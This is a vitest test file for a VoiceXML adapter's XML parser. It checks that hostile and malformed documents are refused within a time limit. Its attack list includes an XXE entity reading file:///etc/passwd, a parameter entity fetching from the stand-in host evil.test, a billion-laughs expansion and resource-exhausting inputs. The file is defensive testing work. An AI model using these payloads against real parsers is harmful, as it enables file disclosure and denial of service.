import fc from "fast-check";
import { expect, test } from "vitest";
import { decodeText } from "../../../../adapters/voicexml/document/decode-text.ts";
import { DocumentError } from "../../../../adapters/voicexml/document/document-error.ts";
import { DOCUMENT_LIMITS, parseXml } from "../../../../adapters/voicexml/document/parse-xml.ts";
import { attribute, childrenNamed, textContent } from "../../../../adapters/voicexml/document/xml-node.ts";

const URL = "http://example.test/a/b.vxml";

const attacks: readonly (readonly [string, string])[] = [
  ["an external file as entity", `<!DOCTYPE v [<!ENTITY x SYSTEM "file:///etc/passwd">]><v>&x;</v>`],
  ["a parameter entity", `<!DOCTYPE v [<!ENTITY % p SYSTEM "http://evil.test/x"> %p;]><v/>`],
  [
    "billion laughs",
    `<!DOCTYPE v [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><v>&c;</v>`,
  ],
  ["an unknown entity", "<v>&nbsp;</v>"],
  ["200 000 levels", "<v>".repeat(200_000)],
  ["one level too many", `${"<v>".repeat(101)}${"</v>".repeat(101)}`],
  ["100 000 attributes", `<v ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(" ")}/>`],
  ["20 MB of text", `<v>${"x".repeat(20_000_000)}</v>`],
  ["more elements than a dialog needs", `<v>${"<w/>".repeat(DOCUMENT_LIMITS.elementsMax)}</v>`],
  ["two roots", "<v/><w/>"],
  ["mismatched tags", "<v><w></v></w>"],
  ["an attribute twice", `<v a="1" a="2"/>`],
  ["a bare ampersand", "<v>a & b</v>"],
  ["a control character", "<v>\u0001</v>"],
  ["an unbound prefix", "<x:v/>"],
  ["nothing", ""],
];

test.each(attacks)("%s is refused at once", (_name, text) => {
  const begun = performance.now();
  expect(() => parseXml(text, URL)).toThrow(DocumentError);
  // 100 ms alone; the rest is for a machine that does other things too.
  expect(performance.now() - begun).toBeLessThan(1_000);
});

test("a DOCTYPE that only names the VoiceXML DTD is passed over, and nothing is fetched", () => {
  const root = parseXml(
    `<!DOCTYPE vxml PUBLIC "-//W3C//DTD VOICEXML 2.0//EN" "http://x/vxml.dtd"><vxml/>`,
    URL,
  );
  expect(root.local).toBe("vxml");
});

test("names that mean something to JavaScript are names like any other", () => {
  const root = parseXml(`<v __proto__="1" constructor="2"><__proto__/></v>`, URL);
  expect(attribute(root, "__proto__")).toBe("1");
  expect(attribute(root, "toString")).toBeNull();
  expect(childrenNamed(root, "__proto__")).toHaveLength(1);
});

test("xml:base and xml:lang reach down to the elements inside", () => {
  const root = parseXml(`<v xml:base="/x/" xml:lang="de"><w><u xml:base="y/" xml:lang="fr"/></w></v>`, URL);
  const inner = childrenNamed(root, "w")[0];
  expect(inner).toMatchObject({ baseUri: "http://example.test/x/", lang: "de" });
  expect(inner?.children[0]).toMatchObject({ baseUri: "http://example.test/x/y/", lang: "fr" });
});

test("any text that is escaped comes back as it was", () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom("a", " ", "<", "&", ">", '"', "é", "😀", "]]>") }),
      (text) => {
        const escaped = text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
        expect(textContent(parseXml(`<v>${escaped}</v>`, URL))).toBe(text);
      },
    ),
  );
});

test("arbitrary text gives a tree or a DocumentError, never anything else", () => {
  fc.assert(
    fc.property(
      fc.string({
        unit: fc.constantFrom("<", ">", "/", "a", "b", '"', "=", " ", "!", "-", "[", "]", "&", ";"),
      }),
      (text) => {
        expect(["tree", "DocumentError"]).toContain(whatComesOf(text));
      },
    ),
  );
});

test("UTF-16 with its mark is read, and bytes that are not what they claim are refused", () => {
  const utf16 = new Uint8Array([0xff, 0xfe, 0x3c, 0x00, 0x76, 0x00, 0x2f, 0x00, 0x3e, 0x00]);
  expect(decodeText(utf16, "utf-8", URL)).toBe("<v/>");
  const latin1 = new Uint8Array([
    ...new TextEncoder().encode(`<?xml version="1.0" encoding="iso-8859-1"?><v>`),
    0xe9,
  ]);
  expect(decodeText(latin1, null, URL).endsWith("é")).toBe(true);
  expect(() => decodeText(new Uint8Array([0x3c, 0xe9, 0x3e]), null, URL)).toThrow(DocumentError);
  expect(() => decodeText(new Uint8Array([0x3c]), "no-such-charset", URL)).toThrow(DocumentError);
});

function whatComesOf(text: string): string {
  try {
    return parseXml(text, URL).kind === "element" ? "tree" : "nothing";
  } catch (error) {
    return error instanceof DocumentError ? "DocumentError" : String(error);
  }
}
